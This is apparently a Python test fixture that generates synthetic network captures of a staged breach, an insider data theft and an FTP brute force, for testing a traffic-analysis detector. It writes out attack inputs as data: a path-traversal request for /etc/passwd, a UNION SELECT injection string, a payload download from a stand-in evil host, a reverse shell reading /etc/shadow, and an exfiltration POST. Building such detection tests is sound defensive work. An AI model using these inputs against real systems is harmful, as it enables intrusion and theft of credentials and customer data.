"""The breach story's test captures, built with scapy (``tests.analysis.behaviour.traffic``).

Addresses: 10.0.0.0/16 is the shop's network (private, so local); 203.0.113.0/24 and
198.51.100.0/24 are the Internet (documentation ranges, not local). Times are seconds from
``traffic.T0`` (2024-05-01T10:00:00Z).

``breach``: one external attacker through every stage, against the web server 10.0.0.10:
  t=-600  workstation 10.0.0.7 logs in to the file server 10.0.0.20 over FTP as "administrator"
          (the password crosses the network in clear text: it is exposed)
  t=0     port scan of 10.0.0.10 from 203.0.113.66 (60 ports, refused)
  t=60    FTP brute force of "webmaster" on 10.0.0.10: 8 failures, then a success
  t=120   exploit: GET /cgi-bin/view.cgi?file=../../../../etc/passwd (a shipped signature)
  t=130   SQL injection: the response lists 12 user names with their MD5 password hashes
  t=150   10.0.0.10 downloads an ELF binary from 203.0.113.66 (named ``update.dat``, from the
          host name dl.evil.example)
  t=160   10.0.0.10 connects back to 203.0.113.66:4444 (reverse shell, ``uid=0(root)``)
  t=170   203.0.113.66 reaches a shell bound on 10.0.0.10:31337 (a port never served before)
  t=220   10.0.0.10 logs in to 10.0.0.20 over FTP as "administrator" (the reused password)
  t=230   10.0.0.10 copies svc.exe (a Windows PE) to 10.0.0.20's ADMIN$ share over SMB and maps
          IPC$ (PsExec's way)
  t=300.. 10.0.0.10 beacons to 198.51.100.99:8443 every 60 s, 30 times
  t=400   10.0.0.20 uploads customers.csv (card numbers, e-mails) by HTTP POST to 203.0.113.80

``insider``: the local host 10.0.0.8 sweeps 25 hosts on 445 (t=1000), logs in to the file server
over SMB with Bob's account while Bob is logged in from 10.0.0.9 (t=1030), reads 30 files of
the finance share (one holds IBANs and SSN-like numbers), then uploads 3 MB over TLS-like traffic
to 198.51.100.77:443 (t=1100). No external attacker at all.

``ftp_brute``: 203.0.113.5 tries 60 passwords for "ftpadmin" on 10.0.0.21, the 61st works.
"""

from __future__ import annotations

import hashlib
import random

from tests.analysis.behaviour.traffic import Capture, ftp_login, http_get, normal_office
from tests.helpers.smb import read_files, write_file

ATTACKER = "203.0.113.66"
WEB = "10.0.0.10"
FILESERVER = "10.0.0.20"
WORKSTATION = "10.0.0.7"
C2 = "198.51.100.99"
DROP = "203.0.113.80"
INSIDER = "10.0.0.8"
INSIDER_DEST = "198.51.100.77"
FTP_ATTACKER, FTP_SERVER = "203.0.113.5", "10.0.0.21"

ADMIN_PASSWORD = b"Winter2024!"
CARDS = ("4111111111111111", "5500005555555559", "4012888888881881")  # test numbers, Luhn-valid
NOT_A_CARD = "4111111111111112"  # fails the Luhn check
EMAILS = ("alice@example.com", "bob@example.org", "carol@example.net")
USER_DUMP = b"".join(f"user{i}:{hashlib.md5(f'pw{i}'.encode()).hexdigest()}\n".encode() for i in range(12))
PE = b"MZ\x90\x00" + bytes(range(256)) * 4
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + bytes(range(256)) * 4


def customers_csv() -> bytes:
    rows = ["name,email,card"]
    for i in range(30):
        rows.append(f"customer{i},{EMAILS[i % 3].replace('@', f'{i}@')},{CARDS[i % 3]}")
    rows.append(f"broken,nobody,{NOT_A_CARD}")
    return ("\n".join(rows) + "\n").encode()


def http_post(host: str, uri: str, body: bytes, ctype: str = "text/csv",
              status: bytes = b"200 OK") -> list[tuple[bytes, bytes]]:
    req = (f"POST {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/8.0\r\nContent-Type: {ctype}\r\n"
           f"Content-Length: {len(body)}\r\n\r\n").encode() + body
    resp = b"HTTP/1.1 " + status + b"\r\nContent-Length: 2\r\n\r\nok"
    return [(req, resp)]


def _chunked(exchanges: list[tuple[bytes, bytes]], size: int = 1400) -> list[tuple[bytes, bytes]]:
    """Requests longer than one segment split into several (the responses kept whole)."""
    out = []
    for req, resp in exchanges:
        parts = [req[i:i + size] for i in range(0, len(req), size)] or [b""]
        out += [(p, b"") for p in parts[:-1]] + [(parts[-1], resp)]
    return out


def ftp_session(user: bytes, password: bytes, ok: bool, extra: list[tuple[bytes, bytes]] = ()) -> list:
    login = ftp_login(user, password, ok)
    return login[:-1] + list(extra) + login[-1:]


def breach(cap: Capture, rng: random.Random | None = None) -> None:
    rng = rng or random.Random(19)
    normal_office(cap, rng, start=-1200)
    # an administrator's everyday FTP login, in clear text
    cap.session(-600, WORKSTATION, FILESERVER, 40100, 21,
                ftp_session(b"administrator", ADMIN_PASSWORD, True, [(b"PWD\r\n", b'257 "/"\r\n')]))
    # reconnaissance
    for i, port in enumerate(range(1000, 1060)):
        cap.rejected(0 + i * 0.05, ATTACKER, WEB, 45000 + i, port)
    # brute force, then success
    for i in range(8):
        cap.session(60 + i * 2, ATTACKER, WEB, 46000 + i, 21, ftp_login(b"webmaster", f"guess{i}".encode(), False))
    cap.session(80, ATTACKER, WEB, 46100, 21, ftp_login(b"webmaster", b"letmein", True))
    # the exploit
    cap.session(120, ATTACKER, WEB, 46200, 80,
                http_get(WEB, "/cgi-bin/view.cgi?file=../../../../etc/passwd",
                         body=b"root:x:0:0:root:/root:/bin/bash\n"))
    # SQL injection dumping the shop's user table (names and MD5 hashes)
    cap.session(130, ATTACKER, WEB, 46250, 80, http_get(WEB, "/products.php?id=1%27+UNION+SELECT+name,pw+FROM+users--",
                                                        body=USER_DUMP))
    # tool download: an ELF by content, with a harmless name
    cap.session(150, WEB, ATTACKER, 33000, 80, _responses_chunked(http_get("dl.evil.example", "/update.dat", body=ELF)))
    # the callback (reverse shell)
    cap.session(160, WEB, ATTACKER, 33001, 4444,
                [(b"id\n", b""), (b"uid=0(root) gid=0(root) groups=0(root)\n", b"cat /etc/shadow\n")])
    # a shell the exploit bound on a high port
    cap.session(170, ATTACKER, WEB, 46300, 31337, [(b"uname -a\n", b"Linux web 6.1.0\n")])
    # lateral movement with the administrator's password seen at t=-600
    cap.session(220, WEB, FILESERVER, 33002, 21,
                ftp_session(b"administrator", ADMIN_PASSWORD, True, [(b"LIST\r\n", b"150 Here\r\n")]))
    # a Windows tool copied to the file server's admin share over SMB
    cap.session(230, WEB, FILESERVER, 33003, 445, write_file("\\\\fs\\ADMIN$", "svc.exe", PE, ipc="\\\\fs\\IPC$"))
    # beaconing
    for i in range(30):
        cap.session(300 + i * 60, WEB, C2, 34000 + i, 8443, [(b"b" * 120, b"c" * 64)])
    # exfiltration of customer data over HTTP from the file server
    body = customers_csv()
    cap.session(400, FILESERVER, DROP, 35000, 80, _chunked(http_post(DROP, "/upload/customers.csv", body)))


def _responses_chunked(exchanges: list[tuple[bytes, bytes]], size: int = 1400) -> list[tuple[bytes, bytes]]:
    out = []
    for req, resp in exchanges:
        parts = [resp[i:i + size] for i in range(0, len(resp), size)]
        out += [(req, parts[0])] + [(b"", p) for p in parts[1:]]
    return out


def insider(cap: Capture, rng: random.Random | None = None) -> None:
    rng = rng or random.Random(20)
    normal_office(cap, rng, start=-1200)
    for i in range(25):
        cap.unanswered(1000 + i * 0.2, INSIDER, f"10.0.1.{i + 1}", 47000 + i, 445)
    # Bob at his own desk, then the insider with Bob's account copying the finance share
    cap.session(1020, "10.0.0.9", FILESERVER, 47090, 445, read_files("bob", {"notes.txt": b"bob's notes"}))
    files = {f"finance\\report{i:02d}.txt": f"quarter report {i}\n".encode() * 20 for i in range(29)}
    files["finance\\payroll.csv"] = PAYROLL
    cap.session(1030, INSIDER, FILESERVER, 47100, 445, read_files("bob", files))
    cap.upload(1100, INSIDER, INSIDER_DEST, 47200, 443, 3_000_000)


PAYROLL = (b"name,iban,ssn\n" + b"".join(f"emp{i},DE89370400440532013000,123-45-{6780 + i}\n".encode()
                                           for i in range(12)))


def ftp_brute(cap: Capture) -> None:
    for i in range(60):
        cap.session(i * 1.5, FTP_ATTACKER, FTP_SERVER, 48000 + i, 21, ftp_login(b"ftpadmin", f"pw{i}".encode(), False))
    cap.session(95, FTP_ATTACKER, FTP_SERVER, 48100, 21, ftp_login(b"ftpadmin", b"dragon", True))
